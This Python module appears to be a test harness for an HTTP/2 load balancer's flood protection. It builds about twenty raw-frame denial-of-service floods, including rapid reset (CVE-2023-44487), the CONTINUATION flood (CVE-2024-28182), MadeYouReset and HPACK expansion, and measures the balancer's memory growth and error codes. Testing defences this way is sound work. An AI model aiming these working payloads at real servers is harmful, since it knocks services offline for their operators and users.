"""Floods: what an attacker sends, and what came of it."""

import time
from dataclasses import dataclass, field as dataclass_field
from pathlib import Path

from .raw_http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PRIORITY,
                        RST_STREAM, SETTINGS, WINDOW_UPDATE, RawConnection, field, frame, number, request,
                        request_block)

CALM = 0xb  # ENHANCE_YOUR_CALM
ERROR_NAMES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
               "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR",
               "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
PATH = "/some.Service/Method"


@dataclass
class Attack:
    name: str
    kind: str  # as the balancer counts it; "": it is no flood, and the connection stays or ends by another rule
    round: object  # stream number (odd, new) -> bytes
    per_round: int = 1  # frames of the kind
    start: bytes = b""  # once, before; may use stream 1
    reads: bool = True
    outside: bool = True
    inside: bool = True  # it can be done inside a tunnel too, by the build client, who opens no streams there
    code: int = CALM


def _block(stream, block, flags=END_HEADERS | END_STREAM):
    return frame(HEADERS, flags, stream, block)


def _overflow(stream):
    return request(stream, PATH) + frame(WINDOW_UPDATE, 0, stream, number(0x7fffffff))


def _malformed(stream):
    return _block(stream, request_block(PATH, {"Upper": "case"}))


def _continuations(stream):
    return (frame(HEADERS, 0, stream, request_block(PATH)) +
            frame(CONTINUATION, 0, stream, field("x", "y" * 100)) * 2000)


def _empty_continuations(stream):
    return frame(HEADERS, 0, stream, request_block(PATH)) + frame(CONTINUATION, 0, stream) * 300 + \
        frame(CONTINUATION, END_HEADERS, stream)


_LARGE = field("x-large", "v" * 3900, indexed=True)


def _expansion(stream):
    # One byte a field of 3.9 KB, once the table has it: 10 KB become 39 MB.
    return _block(stream, request_block(PATH) + (_LARGE if stream == 1 else b"") + b"\xbe" * 10000)


OPEN = request(1, PATH)

ATTACKS = [
    Attack("PING", "ping_flood", lambda s: frame(PING, payload=b"12345678")),
    Attack("PING acknowledgements", "ping_flood", lambda s: frame(PING, ACK, payload=b"12345678")),
    Attack("PING, answers not read", "ping_flood", lambda s: frame(PING, payload=b"12345678"), reads=False),
    Attack("SETTINGS", "settings_flood", lambda s: frame(SETTINGS)),
    Attack("SETTINGS, windows and tables up and down", "settings_flood",
           lambda s: frame(SETTINGS, payload=b"\0\x04\0\0\0\0\0\x04\0\0\xff\xff\0\x01\0\0\0\0\0\x01\0\0\x10\0"),
           per_round=4),
    Attack("SETTINGS, answers not read", "settings_flood", lambda s: frame(SETTINGS), reads=False),
    Attack("WINDOW_UPDATE of 1", "window_update_flood", lambda s: frame(WINDOW_UPDATE, payload=number(1))),
    Attack("WINDOW_UPDATE of a stream that is closed", "window_update_flood",
           lambda s: frame(WINDOW_UPDATE, 0, 1, number(1)), start=OPEN + frame(RST_STREAM, 0, 1, number(8)),
           inside=False),
    Attack("PRIORITY", "priority_flood", lambda s: frame(PRIORITY, 0, s, number(0) + b"\x10")),
    Attack("PRIORITY, each stream below the last one", "priority_flood",
           lambda s: frame(PRIORITY, 0, s + 2, number(s) + b"\x10"), inside=False),
    Attack("frames of unknown types", "priority_flood", lambda s: frame(0xee, 0, 0, b"?")),
    Attack("GOAWAY", "priority_flood", lambda s: frame(GOAWAY, payload=number(0) + number(0)),
           outside=False),  # a connection ends with the first
    Attack("empty DATA", "empty_frame_flood", lambda s: frame(DATA, 0, 1), start=OPEN, inside=False),
    Attack("DATA of nothing but padding", "empty_frame_flood",
           lambda s: frame(DATA, PADDED, 1, b"\xc8" + bytes(200)), start=OPEN, inside=False),
    Attack("empty CONTINUATION", "empty_frame_flood", _empty_continuations, per_round=300, inside=False),
    Attack("CONTINUATION without end (CVE-2024-28182)", "header_flood", _continuations, per_round=2000, inside=False),
    Attack("rapid reset (CVE-2023-44487)", "reset_flood",
           lambda s: request(s, PATH) + frame(RST_STREAM, 0, s, number(8)), inside=False),
    Attack("MadeYouReset: windows overflow", "reset_flood", _overflow, inside=False),
    Attack("MadeYouReset: malformed requests", "reset_flood", _malformed, inside=False),
    Attack("HPACK: tables expand", "reset_flood", _expansion, inside=False),
]


@dataclass
class Outcome:
    attack: Attack
    frames: int = 0
    seconds: float = 0.0
    closed: bool = False
    code: int | None = None
    grown: int = 0  # bytes of memory
    others: list = dataclass_field(default_factory=list)

    def error(self):
        if self.code is not None:
            return ERROR_NAMES[self.code] if self.code < len(ERROR_NAMES) else hex(self.code)
        return "closed" if self.closed else "–"


def resident(pid):
    """Bytes, children too."""
    total = 0
    for each in (pid, *Path(f"/proc/{pid}/task/{pid}/children").read_text().split()):
        for line in Path(f"/proc/{each}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                total += int(line.split()[1]) * 1024
    return total


def flood(peer, attack, most=200_000, seconds=10.0, watch=lambda: None):
    """Sends the attack's rounds through `peer` (a RawConnection or a RawTunnel) until it is closed, or they are `most`
    frames, or it took too long. How many frames it sent."""
    sent, stream = 0, 1 if not attack.start else 3
    began = time.monotonic()
    if attack.start:
        peer.send(attack.start)
    while sent < most and not peer.closed and time.monotonic() - began < seconds:
        batch = b""
        # Small batches at first: the count of frames is told by what went out before the end.
        for _ in range(max(1, 50 // attack.per_round)):
            batch += attack.round(stream)
            stream += 2
        watch()
        if not peer.send(batch):
            break
        sent += max(1, 50 // attack.per_round) * attack.per_round
        if peer.goaway is not None:
            break
    return sent


def run(port, pid, attack, tls=False, seconds=10.0):
    """One attack on the balancer `pid`, on a connection of its own."""
    before = most = resident(pid)
    began = time.monotonic()
    last = [began]

    def watch():
        nonlocal most
        if time.monotonic() - last[0] > 0.05:
            last[0] = time.monotonic()
            most = max(most, resident(pid))

    outcome = Outcome(attack)
    with RawConnection(port, reads=attack.reads, tls=tls) as attacker:
        outcome.frames = flood(attacker, attack, seconds=seconds, watch=watch)
        if attacker.closed or attacker.goaway or not attack.reads:
            outcome.closed = attacker.wait_closed()
        outcome.seconds = time.monotonic() - began
        outcome.code = attacker.goaway[0] if attacker.goaway else None
    outcome.grown = max(most, resident(pid)) - before
    return outcome
